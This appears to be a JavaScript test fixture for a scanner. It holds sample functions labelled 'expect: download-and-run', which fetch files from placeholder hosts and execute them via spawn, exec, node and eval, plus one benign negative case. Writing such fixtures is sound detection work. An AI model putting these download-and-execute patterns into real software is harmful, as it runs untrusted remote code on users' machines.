const https = require('https');
const fs = require('fs');
const os = require('os');
const path = require('path');
const { exec, execFile, spawn } = require('child_process');
const axios = require('axios');

async function first() {
  const target = path.join(os.tmpdir(), 'first.exe');
  const answer = await axios.get('https://files.acme-cdn.example/a', { responseType: 'arraybuffer' });
  fs.writeFileSync(target, answer.data);
  spawn(target); // expect: download-and-run
}

function fetched(address, target, done) {
  const file = fs.createWriteStream(target);
  https.get(address, (answer) => {
    answer.pipe(file);
    file.on('finish', () => file.close(done));
  });
}

function second() {
  fetched('https://files.acme-cdn.example/b', '/tmp/second.sh', () => exec('sh /tmp/second.sh')); // expect: download-and-run
}

async function third() {
  const answer = await fetch('https://files.acme-cdn.example/c');
  const target = path.join(os.tmpdir(), 'third.js');
  fs.writeFileSync(target, Buffer.from(await answer.arrayBuffer()));
  exec(`node ${target}`); // expect: download-and-run
}

async function fourth() {
  const answer = await fetch('https://api.acme-cdn.example/notes');
  fs.writeFileSync('notes.json', await answer.text());
  execFile('git', ['add', 'notes.txt']);
}

async function fifth() {
  const answer = await fetch('https://store.acme-cdn.example/e');
  const parts = [];
  for await (const part of answer.body) parts.push(part);
  const stage = JSON.parse(Buffer.concat(parts).toString());
  eval(stage.run); // expect: download-and-run
}

first();
second();
third();
fourth();
fifth();
